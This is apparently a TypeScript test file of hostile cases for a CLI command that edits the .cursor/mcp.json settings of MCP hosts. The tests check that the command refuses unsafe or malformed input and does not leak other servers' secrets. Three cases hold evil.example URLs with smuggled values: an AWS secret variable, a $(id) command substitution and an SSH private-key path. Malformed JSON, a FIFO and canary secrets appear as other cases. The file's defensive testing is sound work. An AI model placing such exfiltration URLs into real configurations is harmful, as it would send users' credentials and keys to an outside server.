import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { type HostileCase, unless } from "../case.js";
import { PLANTED } from "../checks.js";
import type { Kit } from "../kit/kit.js";

const fileOf = ({ folder }: Kit) => join(folder, ".cursor", "mcp.json");

function write(kit: Kit, content: string): void {
  mkdirSync(dirname(fileOf(kit)), { recursive: true });
  writeFileSync(fileOf(kit), content);
}

/** The user keeps the file elsewhere, with the secrets of other servers. */
function writeSecrets(kit: Kit, content: string): void {
  const file = join(kit.folder, PLANTED, "mcp.json");
  mkdirSync(dirname(file));
  writeFileSync(file, content);
  mkdirSync(dirname(fileOf(kit)));
  symlinkSync(file, fileOf(kit));
}

/** An address that a host would not use as it is. */
function placeholder(id: string, input: string, url: string): HostileCase {
  return {
    id,
    input: `mcp add, with ${input} in the address`,
    result: "refused: the host would send its value to the server",
    outcome: "usage",
    command: () => ["mcp", "add", "cursor", url],
    cliOnly: true,
    arrange: (kit) => write(kit, "{}"),
    says: ["which hosts mark what they replace"],
    requests: [],
    check: (kit) => unless({ "the file is as it was": readFileSync(fileOf(kit), "utf8") === "{}" }),
  };
}

/** Settings of a host that are not changed. */
function refused(id: string, input: string, content: string, says: string): HostileCase {
  return {
    id,
    input: `mcp add, with ${input} in the host's settings`,
    result: "refused with the position; the file stays as it is, byte by byte",
    outcome: "usage",
    command: () => ["mcp", "add", "cursor", "https://mcp.example/mcp"],
    cliOnly: true,
    arrange: (kit) => write(kit, content),
    says: [says],
    requests: [],
    check: (kit) => unless({ "the file is as it was": readFileSync(fileOf(kit), "utf8") === content }),
  };
}

/** The settings of MCP hosts, which others write too. */
export const hostSettings: readonly HostileCase[] = [
  placeholder("W1a", "a variable", "https://evil.example/mcp?x=$\u007bAWS_SECRET_ACCESS_KEY}"),
  placeholder("W1b", "a command", "https://evil.example/$(id)/mcp"),
  placeholder("W1c", "a file", "https://evil.example/mcp?x={file:~/.ssh/id_ed25519}"),
  refused("W2a", "half an object", '{"mcpServers": {"a": {}', ", in line 1"),
  refused("W2b", "a server twice", '{"mcpServers": {"a": 1,\n"a": 2}}', ", in line 2"),
  refused("W2c", "nesting 200,000 deep", '{"a":'.repeat(200_000), "cannot be changed"),
  refused("W2d", "an escape sequence in a key", '{"\\u001b]0;x\\u0007": 1, "\\u001b]0;x\\u0007": 2}', "is there twice"),
  {
    id: "W2e",
    input: "mcp add, with a FIFO in place of the host's settings",
    result: "refused; nothing waits for it",
    outcome: "usage",
    command: () => ["mcp", "add", "cursor", "https://mcp.example/mcp"],
    cliOnly: true,
    arrange(kit) {
      mkdirSync(dirname(fileOf(kit)));
      execFileSync("mkfifo", [fileOf(kit)]);
    },
    says: ["is not an ordinary file"],
    requests: [],
  },
  {
    id: "W3a",
    input: "mcp list, with secrets of other servers in the host's settings",
    result: "listed without them",
    outcome: "ok",
    command: () => ["mcp", "list", "-o", "json"],
    cliOnly: true,
    arrange(kit) {
      const secret = kit.canaries.get("api-token");
      const servers = {
        a: { url: `https://me:${secret}@mcp.example/mcp?key=${secret}#${secret}` },
        b: { command: "npx", args: ["--token", secret], env: { API_KEY: secret } },
      };
      writeSecrets(kit, JSON.stringify({ mcpServers: servers }));
    },
    requests: [],
  },
  {
    id: "W3b",
    input: "mcp add --dry-run, with secrets of other servers in the host's settings",
    result: "only the change is printed",
    outcome: "ok",
    command: () => ["mcp", "add", "cursor", "https://mcp.example/mcp", "--dry-run"],
    cliOnly: true,
    arrange(kit) {
      const secret = kit.canaries.get("api-token");
      writeSecrets(kit, `{"mcpServers": {"b": {"command": "npx", "env": {"API_KEY": "${secret}"}}}}`);
    },
    requests: [],
  },
];
